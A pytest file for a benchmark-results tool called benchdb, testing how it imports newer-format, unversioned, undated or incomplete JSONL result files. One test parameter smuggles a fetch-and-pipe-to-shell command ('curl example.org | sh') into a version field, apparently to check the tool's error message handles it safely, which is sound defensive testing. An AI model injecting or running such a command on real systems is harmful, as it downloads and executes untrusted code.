"""Files that lack what others have, or are of another time: nothing is hidden."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.exchange_lines import ENVIRONMENT, HEADER, MACHINE, START, end, line, run
from tests.in_process import benchdb

STEP = [{"metric": "step_seconds", "value": 1.0}]


def written(folder: Path, name: str, *lines: bytes) -> Path:
    path = folder / f"{name}.jsonl"
    path.write_bytes(b"".join(lines))
    return path


def imported(folder: Path, name: str, *lines: bytes) -> Path:
    """Import these lines into the database of the folder, without any trouble."""
    db = folder / "results.sqlite"
    done = benchdb("import", written(folder, name, *lines), "--db", db)
    assert (done.status, done.err) == (0, "")
    assert benchdb("db", "check", "--db", db).status == 0
    return db


def listed(db: Path) -> list[dict[str, Any]]:
    groups: list[dict[str, Any]] = json.loads(
        benchdb("list", "--runs", "--json", "--db", db).out
    )
    return groups


def view(db: Path) -> dict[str, Any]:
    """Return what a report shows."""
    done = benchdb("report", "--lang", "en", "--format", "json", "-o", "-", "--db", db)
    assert (done.status, done.err) == (0, "")
    result: dict[str, Any] = json.loads(done.out)
    return result


@pytest.mark.parametrize(
    ("written_by", "advice"),
    [
        ("2.3.0", "install benchdb 2.3.0 or later"),
        ("transcription", "upgrade benchdb"),
        ("1.0; curl example.org | sh", "upgrade benchdb"),
        (None, "upgrade benchdb"),
    ],
)
def test_a_file_of_a_newer_format_names_the_benchdb_to_install(
    tmp_path, written_by, advice
):
    db = imported(tmp_path, "old", *START, run("a"), end("a", values=STEP))
    header = line(HEADER, format=2, producer_version=written_by)
    newer = written(tmp_path, "new", header, MACHINE, ENVIRONMENT, run("b"), end("b"))

    done = benchdb("import", newer, "--db", db)

    assert (done.status, done.out) == (1, "")
    assert done.err == (
        f"benchdb: {newer}: written in format 2, this benchdb reads 1 to 1; {advice}\n"
    )
    assert len(listed(db)) == 1


@pytest.mark.parametrize("version", [0, -1])
def test_a_format_that_no_benchdb_wrote_is_no_reason_to_upgrade(tmp_path, version):
    path = written(tmp_path, "odd", line(HEADER, format=version))

    done = benchdb("import", path, "--db", tmp_path / "results.sqlite")

    assert done.status == 1
    assert done.err.endswith("reads 1 to 1; no benchdb has written that\n")


def test_conditions_of_older_and_newer_collectors_are_read_side_by_side(tmp_path):
    older = {"load_1m": 0.25}
    newer = {**older, "uptime_seconds": 86_400, "what_comes_next": "unknown here"}
    for name, conditions in (("older", older), ("newer", newer)):
        seed = len(conditions)  # or the two were one run
        data = run(name, conditions=conditions, seed=seed, campaign=name)
        db = imported(tmp_path, name, *START, data, end(name, values=STEP))

    shown = [
        json.loads(benchdb("show", "--json", each["digest"], "--db", db).out)
        for each in listed(db)
    ]

    result = [item["run"]["conditions"] for item in shown]
    assert sorted(result, key=len) == [older, newer]


def test_a_machine_without_an_id_is_listed_and_stays_another_machine(tmp_path):
    nobody = {**json.loads(MACHINE)}
    del nobody["anonymous_id"]
    unnamed = json.dumps(nobody).encode() + b"\n"
    pair = run("a"), end("a", values=STEP)
    imported(tmp_path, "named", *START, *pair)
    db = imported(tmp_path, "unnamed", HEADER, unnamed, ENVIRONMENT, *pair)

    machines = json.loads(benchdb("machines", "list", "--json", "--db", db).out)

    assert len(listed(db)) == len(machines) == 2
    assert len(view(db)["values"]) == 2


def test_a_sweep_over_a_parameter_that_nobody_knows_stays_a_sweep(tmp_path):
    lines = [
        piece
        for blorb in (1, 2)
        for number in range(3)
        for key in [f"{blorb}-{number}"]
        for piece in (
            run(
                key,
                parameters={"batch_size": 64, "blorb": blorb},
                replicate=number,
                started=f"2026-01-01T00:{10 * blorb + number}:00Z",
            ),
            end(key, values=[{"metric": "step_seconds", "value": 1.0 * blorb}]),
        )
    ]
    db = imported(tmp_path, "sweep", *START, *lines)

    quantities = [row["quantity"] for row in view(db)["values"]]

    assert sorted((quantity["value"], quantity["n"]) for quantity in quantities) == [
        (1.0, 3),
        (2.0, 3),
    ]
    blorbs = [each["parameters"]["blorb"] for each in listed(db)]
    assert sorted(blorbs) == [1, 1, 1, 2, 2, 2]


def test_an_undated_run_is_listed_and_counts_beside_a_dated_one(tmp_path):
    imported(tmp_path, "dated", *START, run("a"), end("a", values=STEP))
    undated = run("b", started=None, campaign="undated")
    slower = [{"metric": "step_seconds", "value": 9.0}]
    db = imported(tmp_path, "undated", *START, undated, end("b", values=slower))

    groups = listed(db)

    assert sorted(each["started"] or "" for each in groups) == [
        "",
        "2026-01-01T00:00:00Z",
    ]
    (row,) = view(db)["values"]
    assert {row["run"], *row["runs"]} == {each["digest"] for each in groups}
    assert (row["quantity"]["n"], row["quantity"]["sessions"]) == (2, 2)
    assert row["started"] == "2026-01-01T00:00:00Z"
